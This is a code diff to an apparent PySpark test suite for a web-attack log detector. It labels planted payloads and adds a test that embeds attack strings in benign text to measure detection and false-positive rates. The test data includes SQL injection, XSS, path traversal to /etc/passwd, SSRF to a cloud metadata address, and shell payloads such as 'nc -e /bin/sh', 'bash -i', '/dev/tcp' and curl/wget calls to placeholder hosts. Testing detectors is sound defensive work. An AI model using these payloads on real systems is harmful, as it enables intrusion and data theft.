@@ -5,7 +5,9 @@ What each planted payload is was written by hand; the SQL knows that and not the
 
 from __future__ import annotations
 
-from pyspark.sql import DataFrame, SparkSession
+import re
+
+from pyspark.sql import Column, DataFrame, SparkSession
 from pyspark.sql import functions as F
 
 from vigilog.functions import decode, signatures
@@ -18,7 +20,7 @@ PLANTED: tuple[tuple[str, str], ...] = (
     ("q=1 group by x having 1", "SQLi"), ("q=1 waitfor delay 0:0:5", "SQLi"), ("q=insert into t values", "SQLi"), ("q=delete from t", "SQLi"), ("q=update t set a", "SQLi"),
     ("q=1 or true", "SQLi"), ("q=name like '%a", "SQLi"), ("q=1) or (2", "SQLi"), ("q=xp_cmdshell", "SQLi"), ("q=group_concat(a)", "SQLi"), ("q=information_schema", "SQLi"), ("q=system_user", "SQLi"),
     ("q=substring(a,1,1)", "SQLi"), ("q=randomblob(9)", "SQLi"), ("q=extractvalue(1,2)", "SQLi"), ("q=select load_file(a) into outfile b", "SQLi"),
-    ("q=<script>alert(1)</script>", "RCE,XSS"), ("q=<img src=x onerror=alert(1)>", "RCE,XSS"), ("q=javascript:alert(1)", "XSS"), ("q=<svg/onload=confirm`1`>", "RCE,XSS"), ("q=document.cookie", "XSS"), ("q=data:text/html,x", "XSS"),
+    ("q=<script>alert(1)</script>", "XSS"), ("q=<img src=x onerror=alert(1)>", "XSS"), ("q=javascript:alert(1)", "XSS"), ("q=<svg/onload=confirm`1`>", "XSS"), ("q=document.cookie", "XSS"), ("q=data:text/html,x", "XSS"),
     ("q=x; cat /etc/passwd", "LFI,RCE"), ("q=$(whoami)", "RCE"), ("q=`hostname`", "RCE"), ("q=a|ls", "RCE"), ("q=a && b", "RCE"), ("q=a || b", "RCE"), ("q=a > out.txt", "RCE"), ("q=a 2>&1", "RCE"), ("q=whoami", "RCE"),
     ("q=uname -a", "RCE"), ("q=netstat -an", "RCE"), ("q=ip addr", "RCE"), ("q=bash -i", "RCE"), ("q=nc -e x", "RCE"), ("q=/dev/tcp/10.0.0.9/1", "RCE"), ("q=/usr/bin/env", "RCE"), ("q=system(x)", "RCE"), ("q=cat${IFS}/tmp/x", "PROTOCOL,RCE"),
     ("q=../../secret.txt", "LFI"), ("q=..%c0%af..%c0%afx", "LFI"), ("q=php://filter", "LFI"), ("q=a%00.png", "LFI"), ("q=c:\\windows\\win.ini", "LFI"), ("q=/proc/self/environ", "LFI"),
@@ -30,8 +32,8 @@ PLANTED: tuple[tuple[str, str], ...] = (
 NAMES = {"f2": ("sqli", "SQLi"), "f3": ("xss", "XSS"), "f4": ("rce", "RCE"), "f6": ("lfi", "LFI"), "f7": ("ssrf", "SSRF"), "f8": ("protocol", "PROTOCOL")}
 
 
-#: What decoding makes of two of them: bytes that aren't UTF-8 are lost, and a hexadecimal number's NUL bytes show.
-DECODED = {"q=..%c0%af..%c0%afx": "", "q=http://0x7f000001/": "LFI,SSRF"}
+#: What decoding makes of one of them: bytes that aren't UTF-8 are lost.
+DECODED = {"q=..%c0%af..%c0%afx": ""}
 
 
 def _by(key: str, column: int) -> str:
@@ -130,8 +132,8 @@ def f10_tag_payloads(spark: SparkSession, sf_dir: str) -> DataFrame:
     return tagged.select("page_id", F.array_join("layer1_alerts", ",").alias("alerts"), "layer1_flagged")
 
 
-#: What decoding makes of three of them, ~ for NUL: bytes that aren't UTF-8, a NUL sign, and the text of a hexadecimal number.
-_TEXTS = {"q=..%c0%af..%c0%afx": "q=..\ufffd\ufffd..\ufffd\ufffdx", "q=a%00.png": "q=a~.png", "q=http://0x7f000001/": "q=http://0x7f000001/ \x7f~~\x01"}
+#: What decoding makes of two of them, ~ for NUL: bytes that aren't UTF-8, and a NUL sign.
+_TEXTS = {"q=..%c0%af..%c0%afx": "q=..\ufffd\ufffd..\ufffd\ufffdx", "q=a%00.png": "q=a~.png"}
 _PLAIN = _by("page_id", 0)
 for _before, _after in _TEXTS.items():
     _PLAIN = _PLAIN.replace(f"'{_before}'", f"'{_after}'")
@@ -142,3 +144,45 @@ def f1_normalize_payload(spark: SparkSession, sf_dir: str) -> DataFrame:
     """Payloads percent-encoded three times come back as they are, without quotes and square brackets."""
     hidden = F.expr("replace(url_encode(url_encode(replace(url_encode(payload), '+', '%20'))), '+', '%20')")
     return _pages(spark, sf_dir).select("page_id", F.trim(F.replace(decode.normalize_payload(hidden), F.lit("\0"), F.lit("~"))).alias("payload"))
+
+
+#: Attacks with a number of the text in them, that stand within its words; {} is the number.
+EMBEDDED = {
+    "SQLi": ("' or {}={} --", "-1 union all select {},a,b", "'; drop table t{};"),
+    "XSS": ("<script>alert({})</script>", "<svg onload=f({})>", "<a href=javascript:f({})>"),
+    "RCE": ("; curl h{}.example/x", "| nc -e /bin/sh h{} 80", "$(wget h{}.example)"),
+    "LFI": ("../../../{}/etc/passwd", "php://filter/{}", "..\\..\\{}.ini"),
+    "SSRF": ("http://169.254.169.254/{}", "gopher://h{}/", "http://127.0.0.1:{}/"),
+    "PROTOCOL": ("{{{{{}*7}}}}", "x\r\nset-cookie: a={}", "${{{}*7}}"),
+}
+
+
+def _embedded(number: Column, name: str) -> Column:
+    """The attack of a number: the kinds of EMBEDDED in turn."""
+    found = None
+    for k, text in enumerate(EMBEDDED[name]):
+        parts = [F.lit(p.replace("{{", "{").replace("}}", "}")) for p in re.split(r"(?<!\{)\{\}|(?<=\{\{\{\{)\{\}|(?<=\$\{\{)\{\}", text)]
+        whole = parts[0]
+        for p in parts[1:]:
+            whole = F.concat(whole, number.cast("string"), p)
+        found = F.when(number % len(EMBEDDED[name]) == k, whole) if found is None else found.when(number % len(EMBEDDED[name]) == k, whole)
+    return found
+
+
+@query(f"""WITH b AS (SELECT (SELECT count(*) FROM documents) + (SELECT count(*) FROM conversations) AS benign, (SELECT count(*) FROM documents) AS attacks)
+SELECT detector, attacks, attacks AS detected, benign, true AS quiet FROM b, (SELECT unnest({list(EMBEDDED)}) AS detector)""")
+def a21_detectors_on_texts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Each detector over whole documents and turns of conversations, which are benign, and over documents with an attack within their words.
+
+    SQL knows that every attack has to be found, and that a detector is quiet: at most one in a hundred benign texts is a hit.
+    """
+    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", F.coalesce("text", F.lit("")).alias("text"))
+    turns = spark.read.parquet(f"{sf_dir}/conversations.parquet").select(F.coalesce("text", F.lit("")).alias("text"))
+    tests = signatures.DETECTORS
+    hits = docs.select("text").union(turns).select(*(tests[n](F.col("text")).cast("long").alias(n) for n in EMBEDDED))
+    benign = hits.agg(F.count("*").alias("benign"), *(F.sum(n).alias(n) for n in EMBEDDED))
+    at = F.instr("text", " ")
+    within = lambda n: F.concat(F.substring("text", F.lit(1), at), _embedded(F.col("doc_id"), n), F.lit(" "), F.substring("text", at + 1, F.length("text")))
+    found = docs.select(*(tests[n](within(n)).cast("long").alias(n) for n in EMBEDDED)).agg(F.count("*").alias("attacks"), *(F.sum(n).alias(f"{n}_found") for n in EMBEDDED))
+    rows = F.explode(F.array(*(F.struct(F.lit(n).alias("detector"), "attacks", F.col(f"{n}_found").alias("detected"), "benign", (100 * F.col(n) <= F.col("benign")).alias("quiet")) for n in EMBEDDED)))
+    return benign.crossJoin(F.broadcast(found)).select(rows.alias("r")).select("r.*")
